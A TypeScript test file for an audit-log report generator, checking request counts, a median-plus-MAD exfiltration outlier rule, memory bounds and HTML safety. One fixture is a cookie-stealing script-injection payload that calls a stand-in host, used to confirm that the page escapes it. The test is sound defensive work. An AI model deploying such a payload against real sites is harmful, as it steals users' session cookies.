// The report's figures (report.ts) and the page's safety (report-html.ts), without a browser: the known log's
// records in, the figures a reviewer would count by hand out; the outlier rule as a table; time buckets that stay
// within MAX_BUCKETS on the ladder of widths; the bounds; untrusted field types; and a hostile host name that
// cannot end the page's data block.

import { describe, expect, it } from 'vitest';
import type { AuditLineRecord } from '../../src/audit/query.js';
import { renderReport, scriptJson } from '../../src/audit/report-html.js';
import {
  BUCKET_LADDER_MS,
  bytesOutView,
  chainStatus,
  MAX_AGENTS,
  MAX_BUCKETS,
  OTHER_AGENTS,
  ReportBuilder,
  type ChainStatus,
} from '../../src/audit/report.js';
import type { VerifyResult } from '../../src/audit/verify.js';
import { BASE, KNOWN } from '../helpers/known-audit-log.js';

const CHAIN: ChainStatus = { state: 'verified', message: 'ok', records: 0, firstSeq: 1, head: null, brokenAtSeq: null };

function report(records: readonly object[], policyRules?: string[]) {
  const builder = new ReportBuilder();
  for (const r of records) builder.add(r as AuditLineRecord);
  return builder.result(CHAIN, policyRules);
}

describe('report figures on the known log (test/helpers/known-audit-log.ts)', () => {
  const data = report(KNOWN, ['openai', 'docs', 'block-exfil', 'unused', 'unused']);

  it('agents, most requests first; totals over all agents', () => {
    expect(data.records).toBe(14);
    expect(data.agents).toEqual(['research', 'builder', 'anonymous']);
    expect(data.all.totals).toEqual({
      requests: 12, // every record but the policy reload r06 and the grant event r13
      allowed: 5, // r01 r07 r09 r12 r14
      denied: 7, // r02 r03 r04 r05 r08 r10 r11
      wouldDeny: 1, // r12
      rateLimited: 1, // r05
      bandwidth: 0,
      bytesOut: 2360, // 1200 + 300 + 800 + 50 + 10
      bytesIn: 26000, // 5000 + 900 + 100 + 20000
      grantsIssued: 1, // r13
      grantsUsed: 1, // r14
    });
  });

  it.each<[view: string, expected: Record<string, number>]>([
    [
      'research',
      { requests: 7, allowed: 3, denied: 4, rateLimited: 1, bytesOut: 2010, grantsIssued: 1, grantsUsed: 1 },
    ],
    ['builder', { requests: 3, allowed: 2, denied: 1, wouldDeny: 1, bytesOut: 350 }],
    ['anonymous', { requests: 2, allowed: 0, denied: 2, bytesOut: 0 }],
  ])('the %s view counts that agent only', (view, expected) => {
    expect(data.views[view]?.totals).toMatchObject(expected);
  });

  it('denied hosts and deny reasons, most first', () => {
    expect(data.all.topDeniedHosts).toEqual([
      { host: 'attacker.test', count: 3 },
      { host: '169.254.169.254', count: 1 },
      { host: 'api.openai.com', count: 1 },
      { host: 'example.com', count: 1 },
      { host: 'sub.attacker.test', count: 1 },
    ]);
    expect(data.all.denyReasons).toEqual([
      { reason: 'denied_by_rule', count: 4 },
      { reason: 'address_denied', count: 1 },
      { reason: 'no_rule', count: 1 },
      { reason: 'rate_limited', count: 1 },
    ]);
    expect(data.views.builder?.topDeniedHosts).toEqual([{ host: '169.254.169.254', count: 1 }]);
  });

  it('bytes out per host, with api.openai.com over median + 3·MAD (350 + 3·340)', () => {
    expect(data.all.bytesOut).toEqual({
      hosts: [
        { host: 'api.openai.com', bytesOut: 2000, requests: 2, outlier: true },
        { host: 'docs.example.com', bytesOut: 350, requests: 2, outlier: false },
        { host: 'cdn.example.net', bytesOut: 10, requests: 1, outlier: false },
      ],
      hostsConsidered: 3,
      median: 350,
      mad: 340,
      threshold: 1370,
      outliers: 1,
    });
  });

  it('rate limits, rules hit (the grant pseudo-rule is not a policy rule) and rules never hit', () => {
    expect(data.all.limits).toEqual([{ host: 'api.openai.com', rateLimited: 1, bandwidth: 0 }]);
    expect(data.all.rules).toEqual([
      { rule: 'block-exfil', hits: 4, allowed: 0, denied: 4 },
      { rule: 'openai', hits: 3, allowed: 2, denied: 1 },
      { rule: 'docs', hits: 2, allowed: 2, denied: 0 },
    ]);
    expect(data.rulesNeverHit).toEqual(['unused']);
    expect(data.policyRules).toBe(4);
    expect(report(KNOWN).rulesNeverHit).toBeNull();
  });

  it('the grant (r13) and its use (r14), joined on source rule and host', () => {
    // The known log's grant records name no `grant` field: the edge still forms, its source unknown.
    expect(data.all.grants).toEqual([
      {
        sourceRule: '(unknown)',
        sourceHost: '(unknown)',
        host: 'cdn.example.net',
        issued: 1,
        skipped: 0,
        used: 1,
        bytesOut: 10,
        ttlMs: null,
      },
    ]);
  });

  it('policy reloads and revisions for the timeline', () => {
    expect(data.policyEvents).toEqual([
      {
        time: '2026-11-22T00:30:00.000Z',
        reason: 'policy_loaded',
        revision: 'rev-b',
        previousRevision: 'rev-a',
        message: null,
      },
    ]);
    expect(data.revisions).toEqual([
      { revision: 'rev-a', records: 5, firstSeen: '2026-11-22T00:00:00.000Z', lastSeen: '2026-11-22T00:20:00.000Z' },
      { revision: 'rev-b', records: 9, firstSeen: '2026-11-22T00:30:00.000Z', lastSeen: '2026-11-22T04:01:00.000Z' },
    ]);
  });

  it('requests over time: 241 minutes in 30 s buckets (483 ≤ 500), allowed and denied per agent', () => {
    const { series } = data;
    expect(series.bucketMs).toBe(30_000);
    expect(series.xs).toHaveLength(483);
    expect(series.xs[0]).toBe(BASE / 1000);
    const sum = (key: 'allow' | 'deny' | 'limited') =>
      Object.values(series.byAgent).reduce((n, s) => n + s[key].reduce((a, b) => a + b, 0), 0);
    expect([sum('allow'), sum('deny'), sum('limited')]).toEqual([5, 7, 1]);
    expect(series.byAgent.builder?.deny[(70 * 60) / 30]).toBe(1); // r08 at 01:10
  });
});

describe('the outlier rule: bytes out > median + 3·MAD, over at least 3 hosts', () => {
  it.each<[name: string, bytes: number[], threshold: number | null, outliers: number[]]>([
    ['no host sent anything', [], null, []],
    ['two hosts are too few to call one unusual', [10, 100_000], null, []],
    ['identical hosts and one more: MAD 0, anything above the median', [100, 100, 100, 5000], 100, [5000]],
    ['an even spread has no outlier', [100, 200, 300, 400, 500], 600, []],
    ['one large upload stands out', [100, 200, 300, 400, 5000], 600, [5000]],
    [
      'a large upload cannot hide by raising the spread (mean + 3σ would miss it)',
      [1, 1, 1, 1, 1, 1, 1, 1, 1, 1000],
      1,
      [1000],
    ],
  ])('%s', (_name, bytes, threshold, outliers) => {
    const view = bytesOutView(bytes.map((b, i) => ({ host: `h${i}`, bytesOut: b, requests: 1 })));
    expect(view.threshold).toBe(threshold);
    expect(view.hosts.filter((h) => h.outlier).map((h) => h.bytesOut)).toEqual(outliers);
    expect(view.outliers).toBe(outliers.length);
  });
});

describe('bounded memory', () => {
  const rec = (ms: number, fields: object = {}) => ({
    time: new Date(BASE + ms).toISOString(),
    event: 'request',
    agent: 'a',
    host: 'h.test',
    effect: 'allow',
    rule: 'r',
    ...fields,
  });

  it('time buckets widen along the ladder and never exceed MAX_BUCKETS, records in any order', () => {
    const month = 30 * 86_400_000;
    const times = Array.from({ length: 5000 }, (_, i) => ((i * 7919) % 5000) * (month / 5000));
    const data = report(times.map((t) => rec(t)));
    expect(data.series.xs.length).toBeLessThanOrEqual(MAX_BUCKETS);
    expect(BUCKET_LADDER_MS).toContain(data.series.bucketMs);
    expect(data.series.bucketMs).toBe(3 * 3600_000); // 30 days / 500 = 1.44 h: the next width is 3 h
    expect(data.series.byAgent.a?.allow.reduce((a, b) => a + b, 0)).toBe(5000);
  });

  it(`agents beyond the first ${MAX_AGENTS} are counted together, and the report says how many records`, () => {
    const data = report(Array.from({ length: MAX_AGENTS + 10 }, (_, i) => rec(i, { agent: `agent-${i}` })));
    expect(data.agents).toHaveLength(MAX_AGENTS + 1);
    expect(data.agents.at(-1)).toBe(OTHER_AGENTS);
    expect(data.views[OTHER_AGENTS]?.totals.requests).toBe(10);
    expect(data.untracked.agents).toBe(10);
    expect(data.all.totals.requests).toBe(MAX_AGENTS + 10);
  });

  it('fields of the wrong type count as absent and never throw', () => {
    const data = report(
      [
        { time: 'yesterday', agent: 5, host: {}, effect: 'allow', bytesOut: '100', rule: ['x'], grant: 'x' },
        { event: 'grant', grant: null },
        null as never,
      ].filter(Boolean),
    );
    expect(data.agents).toEqual(['(unknown)']);
    expect(data.all.totals).toMatchObject({ requests: 1, allowed: 1, bytesOut: 0, grantsIssued: 0 });
    expect(data.series.xs).toEqual([]);
    expect(data.firstTime).toBeNull();
  });
});

describe('the chain result at the top of the page', () => {
  const at = { file: 'audit.log', line: 7 };
  const result = (over: Partial<VerifyResult>): VerifyResult => ({
    records: 10,
    chains: 1,
    chainStarts: [],
    startsAt: undefined,
    head: { seq: 10, hash: 'ab'.repeat(32), at },
    finding: undefined,
    ...over,
  });
  it.each<[name: string, r: VerifyResult, seq: number | null, state: string, message: RegExp]>([
    ['intact', result({}), null, 'verified', /^chain intact: 10 records, seq 1\.\.10$/],
    [
      'rotated out at the start',
      result({ startsAt: 5 }),
      null,
      'verified',
      /seq 5\.\.10; records before seq 5 are not in these files/,
    ],
    [
      'broken link',
      result({ head: undefined, finding: { problem: 'broken_link', at, message: 'audit.log:7: broken link: …' } }),
      7,
      'broken',
      /^audit\.log:7: broken link/,
    ],
    [
      'v1 records',
      result({
        records: 0,
        head: undefined,
        finding: { problem: 'unchained', at, message: 'audit.log:1: record has no seq/prev' },
      }),
      null,
      'not_chained',
      /^not chained: /,
    ],
    ['empty', result({ records: 0, head: undefined }), null, 'empty', /^no records$/],
  ])('%s', (_name, r, seq, state, message) => {
    const status = chainStatus(r, seq);
    expect(status.state).toBe(state);
    expect(status.message).toMatch(message);
    expect(status.brokenAtSeq).toBe(state === 'broken' ? seq : null);
  });
});

describe('the page is safe with hostile log text', () => {
  const hostile = '</script><script>fetch("http://x.test/"+document.cookie)</script><!--';
  const data = report([
    {
      time: new Date(BASE).toISOString(),
      event: 'request',
      agent: hostile,
      host: hostile,
      effect: 'deny',
      reason: 'no_rule',
    },
  ]);
  const html = renderReport(
    data,
    { generatedAt: 'now', inputs: [hostile], filters: [], policy: null, version: '0' },
    { chartJs: 'window.uPlot = {};', chartCss: '' },
  );

  it('no byte of the data can end its script element or open a comment', () => {
    expect(scriptJson({ a: hostile, b: '\u2028&' })).not.toMatch(/[<>&\u2028]/);
    expect(JSON.parse(scriptJson({ a: hostile }))).toEqual({ a: hostile });
    expect(html.match(/<\/script/gi)).toHaveLength(3); // the data block, uPlot, the page script
    expect(html).not.toContain('x.test/"+document');
  });

  it('a Content-Security-Policy that allows no network access at all', () => {
    expect(html).toContain(
      `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; script-src 'unsafe-inline'`,
    );
  });

  it('refuses to inline a vendored file that would end its element', () => {
    expect(() =>
      renderReport(
        data,
        { generatedAt: 'now', inputs: [], filters: [], policy: null, version: '0' },
        { chartJs: 'x="</script>"', chartCss: '' },
      ),
    ).toThrow(/<\/script/);
  });
});
